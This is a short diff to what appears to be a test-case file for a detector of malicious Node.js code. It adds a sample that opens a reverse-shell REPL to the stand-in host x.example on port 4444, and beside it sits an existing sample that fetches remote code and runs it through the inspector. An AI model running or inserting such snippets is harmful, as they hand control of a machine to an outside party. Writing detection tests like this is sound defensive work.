@@ -309,6 +309,10 @@ export default defineCases({
       manifest: { type: 'module' },
       code: "import { Session } from 'node:inspector/promises';\nconst session = new Session();\nsession.connect();\nawait session.post('Runtime.evaluate', { expression: await (await fetch('https://cdn.example/x')).text() });",
     },
+    {
+      name: 'a console for somebody elsewhere',
+      code: "const net = require('net'), repl = require('repl');\nconst socket = net.connect(4444, 'x.example');\nrepl.start({ input: socket, output: socket })",
+    },
   ],
   ok: [
     {
